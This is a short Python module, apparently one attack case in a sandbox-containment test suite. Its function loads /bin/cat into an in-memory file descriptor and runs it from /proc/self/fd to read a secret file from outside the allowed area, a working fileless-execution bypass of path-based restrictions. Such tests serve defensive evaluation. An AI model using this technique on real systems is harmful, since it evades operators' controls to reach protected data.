"""Runs a program that lies in memory and in no folder."""

from __future__ import annotations

import os
import subprocess
from typing import Any

KIND = "read outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    program = os.memfd_create("program", 0)
    with open("/bin/cat", "rb") as file:
        os.write(program, file.read())
    done = subprocess.run(
        [f"/proc/self/fd/{program}", t["secret"]], pass_fds=[program], capture_output=True, check=False
    )
    return done.stdout
